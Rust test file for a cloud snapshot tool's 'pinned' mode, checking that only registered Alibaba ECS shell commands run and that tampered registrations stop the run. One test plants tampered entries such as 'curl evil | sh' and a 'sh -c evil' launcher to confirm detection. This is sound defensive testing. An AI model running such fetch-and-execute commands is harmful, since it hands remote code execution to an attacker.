use std::sync::{Arc, Mutex};

use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use serde_json::{Value, json};

use super::*;
use crate::protect::saga::{Next, earlier, protect};
use crate::protect::testing::{Answer, calls, ended, ok, scripted_with};
use crate::protect::{Outcome, blank};
use crate::report::Status;

/// What is registered, as DescribeCommands shows it; ids are the kinds.
fn shown(commands: &[Command]) -> Vec<Value> {
    let one = |command: &Command| {
        json!({ "CommandId": command.kind, "Name": command.name, "Type": "RunShellScript", "WorkingDir": "/",
            "EnableParameter": true, "CommandContent": BASE64_STANDARD.encode(&command.text) })
    };
    commands.iter().map(one).collect()
}

fn registry(linux: &Linux) -> Vec<Value> {
    shown(&needed(&pins_of(linux, "ecs-vpc.cn-hangzhou.aliyuncs.com")).unwrap())
}

/// Delivers the event once to a pinned function; the calls that ran something are told in order.
async fn play(change: impl Fn(&mut Vec<Value>)) -> (Outcome, Vec<String>, crate::protect::testing::Asked) {
    let registered: Arc<Mutex<Vec<Value>>> = Arc::default();
    let (list, ran) = (registered.clone(), Arc::new(Mutex::new(Vec::new())));
    let log = ran.clone();
    let script = move |call: &str, params: &std::collections::BTreeMap<String, String>| -> Option<Answer> {
        match call {
            "DescribeCommands" => Some(ok(json!({ "Commands": { "Command": *list.lock().unwrap() } }))),
            "InvokeCommand" => {
                let kind = params["CommandId"].clone();
                log.lock().unwrap().push(kind.clone());
                Some(ok(json!({ "InvokeId": kind })))
            }
            call if call.starts_with("RunCommand") => panic!("{call} in pinned mode"),
            _ => None,
        }
    };
    let (mut task, asked) = scripted_with(script);
    task.pinned = true;
    let mut all = registry(&task.request.linux);
    change(&mut all);
    *registered.lock().unwrap() = all;
    let outcome = match earlier(&task).await {
        Next::Over(outcome) => outcome,
        Next::Attempt(unit) => protect(&task, unit).await,
    };
    let ran = ran.lock().unwrap().clone();
    (outcome, ran, asked)
}

#[tokio::test(start_paused = true)]
async fn a_pinned_run_invokes_registered_commands_and_runs_no_other() {
    let (outcome, ran, asked) = play(|_| {}).await;
    assert_eq!((outcome.status, ran), (Status::Succeeded, vec!["find".into(), "go".into()]));
    let go = &calls(&asked, "InvokeCommand")[1];
    assert!(go.iter().any(|(key, value)| key.starts_with("Tag.") && value == "appsnap:attempt"), "{go:?}");
    assert_eq!(go["Username"], "root");
    let parameters: Value = serde_json::from_str(&go["Parameters"]).unwrap();
    let value = parameters["values"].as_str().unwrap();
    assert!(value.bytes().all(|b| b.is_ascii_alphanumeric() || b"+/=".contains(&b)), "{value}");
}

#[tokio::test(start_paused = true)]
async fn a_registered_command_that_is_missing_or_differs_stops_the_run_before_the_guest() {
    let changes: [fn(&mut Vec<Value>); 5] = [
        |all| all.clear(),
        |all| drop(all.remove(2)),
        |all| all[1]["CommandContent"] = json!(BASE64_STANDARD.encode("curl evil | sh\n#=\n{{values}}")),
        |all| all[0]["Launcher"] = json!("sh -c evil"),
        |all| all[0]["WorkingDir"] = json!("/home"),
    ];
    for change in changes {
        let (outcome, ran, _) = play(change).await;
        let error = outcome.unit.error.unwrap();
        assert_eq!((outcome.status, error.code.as_str(), ran.len()), (Status::Failed, "pinned.missing", 0));
        let cure = error.cure.unwrap();
        let statement = r#""Action":"ecs:DescribeCommands","Resource":"acs:ecs:cn-hangzhou:*:command/*"}"#;
        assert!(cure.contains("appsnap pin") && cure.contains(statement), "{cure}");
    }
}

#[tokio::test(start_paused = true)]
async fn scripts_of_another_request_are_not_what_is_registered() {
    let (mut task, _) = scripted_with(|call, _| match call {
        "DescribeCommands" => {
            let linux = scripted_with(|_, _| None).0.request.linux;
            Some(ok(json!({ "Commands": { "Command": registry(&linux) } })))
        }
        "InvokeCommand" => Some(ok(json!({ "InvokeId": "find" }))),
        "result find" => Some(ended(r#"{"appsnap":"1","reason":["busy x"],"phase":"refused"}"#)),
        _ => None,
    });
    task.pinned = true;
    assert_eq!(protect(&task, blank(&task)).await.status, Status::Refused);
    task.request.linux.pre_script_path = Some("/opt/other.sh".into());
    let outcome = protect(&task, blank(&task)).await;
    assert_eq!(outcome.unit.error.unwrap().code, "pinned.missing");
}

#[tokio::test(start_paused = true)]
async fn the_vendors_plugin_is_refused_in_pinned_mode_and_nothing_is_sent() {
    let (mut task, asked) = scripted_with(|_, _| None);
    (task.pinned, task.request.linux.engine) = (true, crate::policy::Engine::Plugin);
    let outcome = crate::protect::protect(&task, blank(&task)).await;
    assert_eq!((outcome.status, outcome.unit.reasons), (Status::Refused, vec!["pinned.engine".to_string()]));
    assert!(outcome.unit.findings[0].cure.contains("APPSNAP_PINNED") && asked.lock().unwrap().is_empty());
}

#[tokio::test(start_paused = true)]
async fn a_pinned_check_looks_for_the_commands_and_runs_none() {
    for there in [true, false] {
        let (mut task, asked) = scripted_with(move |call, _| {
            let linux = || scripted_with(|_, _| None).0.request.linux;
            let list = if there { registry(&linux()) } else { Vec::new() };
            match call {
                "DescribeCommands" => Some(ok(json!({ "Commands": { "Command": list } }))),
                "DescribeSnapshots" => Some(ok(json!({}))),
                _ => None,
            }
        });
        task.pinned = true;
        let surveyed = crate::protect::survey::Surveyed {
            instance_id: task.instance_id.clone(),
            os_type: "linux".into(),
            os_name: String::new(),
            disks: task.disks.clone(),
            findings: Vec::new(),
        };
        let outcome = crate::protect::check::check(&task, surveyed).await;
        let unit = outcome.unit;
        let noted = unit.findings.iter().any(|finding| finding.code == "look.pinned");
        let code = unit.error.as_ref().map(|error| error.code.as_str());
        assert_eq!((noted, code), (there, (!there).then_some("pinned.missing")), "{unit:?}");
        let sent = |(call, _): &(String, _)| call.starts_with("RunCommand") || call == "InvokeCommand";
        assert!(!asked.lock().unwrap().iter().any(sent));
    }
}
